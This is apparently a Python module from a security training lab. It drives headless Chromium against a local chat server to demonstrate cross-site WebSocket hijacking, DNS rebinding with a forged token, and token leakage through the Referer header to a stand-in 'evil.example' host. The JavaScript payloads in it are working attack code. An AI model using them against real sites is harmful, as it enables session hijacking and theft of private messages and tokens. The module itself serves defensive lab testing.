"""Attacks that need a real browser: it adds cookies by itself, and believes what DNS says.

Sites are told apart by host names, all mapped to 127.0.0.1: ports of one host are one site. Needs
Chromium, and Playwright, which the ``test`` extra brings.
"""

from __future__ import annotations

import asyncio
import tempfile
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, NamedTuple
from urllib.parse import urlsplit

from rtlab.errors import LabError
from rtlab.experiments.attacks import PASSWORDS, log_in
from rtlab.experiments.audit.handshake_checks import forged_token
from rtlab.lab.lab import Lab
from rtlab.processes.programs_and_ports import free_port
from rtlab.testing.scripted_http import Request, ScriptedServer, response

if TYPE_CHECKING:
    from playwright.async_api import BrowserContext, Page

__all__ = [
    "SECRET",
    "Rebound",
    "chat_site",
    "hijack_socket",
    "mapped_browser",
    "read_under_rebound_name",
    "token_from_referrer",
]

#: The site that is attacked, and the stranger's, whose name begins as if it were this machine.
_CHAT: Final = "chat.example"
_STRANGER: Final = "127.0.0.1.evil.example"
_REBOUND: Final = "rebound.example"

SECRET: Final = "the key is under the mat"

#: Milliseconds: long, as a busy machine's browser takes its time.
_PATIENCE: Final = 30_000

#: What any page may do; the browser adds the cookies of the site that it connects to.
_STEAL: Final = """(url) => {
  globalThis.heard = [];
  globalThis.stage = "connecting";
  const socket = new WebSocket(url);
  socket.onopen = () =>
    socket.send(JSON.stringify({ type: "join_room", id: "1", payload: { roomId: "staff" } }));
  socket.onmessage = (event) => {
    const message = JSON.parse(event.data);
    if (message.type === "ack") globalThis.stage = "inside";
    if (message.type === "chat") { heard.push(message.payload.text); globalThis.stage = "done"; }
  };
  socket.onclose = () => { if (stage !== "done") globalThis.stage = "closed"; };
}"""

_LOG_IN: Final = """async ([user, password]) => (await fetch("/api/auth/token", {
  method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ user, password }),
})).status"""

#: What Ada's own page does.
_SAY: Final = """([url, text]) => {
  const socket = new WebSocket(url);
  socket.onopen = () => {
    socket.send(JSON.stringify({ type: "join_room", id: "1", payload: { roomId: "staff" } }));
    socket.send(JSON.stringify({ type: "chat", id: "2", roomId: "staff", payload: { text } }));
  };
}"""

#: What a page does that counts its visitors by a picture of somebody else's.
_COUNT: Final = """(url) => new Promise((done) => {
  const picture = new Image();
  picture.onload = picture.onerror = done;
  picture.src = url;
})"""

_READ: Final = """async (token) => {
  const answer = await fetch("/poll", { headers: { Authorization: `Bearer ${token}` } });
  return [answer.status, await answer.text()];
}"""


class Rebound(NamedTuple):
    """What a page read of a server on the reader's machine, under a name of its own.

    Parameters
    ----------
    status : int
        Of HTTP.
    body : str
        All of it: the page is of the same origin.
    """

    status: int
    body: str


def chat_site(**server: Any) -> Lab:
    """Return a lab, not started, that is https://chat.example for `mapped_browser`.

    Parameters
    ----------
    **server
        As for `Lab`, such as ``security="naive"``.
    """
    port = free_port()
    return Lab(tls=True, port=port, allow_origin=f"https://{_CHAT}:{port}", **server)


@asynccontextmanager
async def mapped_browser() -> AsyncGenerator[BrowserContext]:
    """Run one headless Chromium for which every name under ``example`` is this machine.

    Its profile hands a site's cookies to whichever page connects to it (``SameSite=None``), as browsers
    do whose user has not forbidden it; in private mode, and by some builds' defaults, Chromium keeps them.

    Raises
    ------
    LabError
        When Chromium or Playwright is missing.
    """
    try:
        from playwright.async_api import async_playwright

        from rtlab.notebook.browser import FLAGS, chromium
    except ImportError:
        raise LabError("Playwright is missing: pip install 'rtlab[test]'") from None
    if chromium() is None:
        raise LabError("Chromium is missing: `rtlab doctor` says how to get it")
    with tempfile.TemporaryDirectory(prefix="rtlab-") as profile:
        _allow_cookies(Path(profile))
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch_persistent_context(
                profile,
                executable_path=chromium(),
                args=[*FLAGS, "--host-resolver-rules=MAP *.example 127.0.0.1"],
                ignore_https_errors=True,
            )
            browser.set_default_timeout(_PATIENCE)
            try:
                yield browser
            finally:
                await browser.close()


async def hijack_socket(lab: Lab, browser: BrowserContext) -> list[str]:
    """Let Ada log in at her chat, and then look at a stranger's page, which connects to the chat.

    Parameters
    ----------
    lab : Lab
        A running `chat_site`.
    browser : playwright.async_api.BrowserContext
        From `mapped_browser`.

    Returns
    -------
    list of str
        What is said among staff, as the stranger's page read it; empty when it was refused.
    """
    port = urlsplit(lab.url).port

    async def page_of_stranger(request: Request, writer: asyncio.StreamWriter) -> None:
        writer.write(response(200, b"<h1>Kittens</h1>", content_type="text/html"))

    async with ScriptedServer(page_of_stranger) as stranger, _page(browser) as ada, _page(browser) as page:
        await ada.goto(f"https://{_CHAT}:{port}/")
        status = await ada.evaluate(_LOG_IN, ["ada", PASSWORDS["ada"]])
        if status != 200:
            raise LabError(f"expected Ada to log in, got HTTP {status}")
        await page.goto(f"http://{_STRANGER}:{urlsplit(stranger.url).port}/")
        await page.evaluate(_STEAL, f"wss://{_CHAT}:{port}/ws")
        await page.wait_for_function("stage !== 'connecting'")
        if await page.evaluate("stage") == "inside":
            await ada.evaluate(_SAY, [f"wss://{_CHAT}:{port}/ws", SECRET])
            await page.wait_for_function("stage !== 'inside'")
        return list(await page.evaluate("heard"))


async def read_under_rebound_name(lab: Lab, browser: BrowserContext) -> Rebound:
    """Let a page whose name points to this machine read ``/poll`` with a token that nobody signed.

    The stranger's DNS server named his own machine until the page was loaded, and 127.0.0.1 from then
    on. For the browser the two are one origin: no preflight, no ``Origin``, and the page reads the answer.

    Parameters
    ----------
    lab : Lab
        A running one, without TLS.
    browser : playwright.async_api.BrowserContext
        From `mapped_browser`.
    """
    async with _page(browser) as page:
        await page.goto(f"http://{_REBOUND}:{urlsplit(lab.url).port}/")
        status, body = await page.evaluate(_READ, forged_token())
        return Rebound(int(status), str(body))


async def token_from_referrer(lab: Lab, browser: BrowserContext) -> str:
    """Let Ada open a link that holds her token, at a page that counts visitors by a stranger's picture.

    Parameters
    ----------
    lab : Lab
        A running one, without TLS.
    browser : playwright.async_api.BrowserContext
        From `mapped_browser`.

    Returns
    -------
    str
        The ``Referer`` that the stranger's server was told; empty for none.
    """
    told = ""

    async def counter(request: Request, writer: asyncio.StreamWriter) -> None:
        nonlocal told
        told = request.headers.get("referer", b"").decode("latin-1")
        writer.write(response(404))

    token = (await log_in(lab, "ada"))["accessToken"]
    async with ScriptedServer(counter) as stranger, _page(browser) as page:
        await page.goto(f"http://127.0.0.1:{urlsplit(lab.url).port}/?token={token}")
        await page.evaluate(_COUNT, f"http://counter.example:{urlsplit(stranger.url).port}/visit.gif")
    return told


def _allow_cookies(profile: Path) -> None:
    preferences = profile / "Default" / "Preferences"
    preferences.parent.mkdir()
    preferences.write_text('{"profile": {"cookie_controls_mode": 0, "block_third_party_cookies": false}}')


@asynccontextmanager
async def _page(browser: BrowserContext) -> AsyncGenerator[Page]:
    await browser.clear_cookies()  # they do not tell ports apart: another lab's would come along
    page = await browser.new_page()
    try:
        yield page
    finally:
        await page.close()
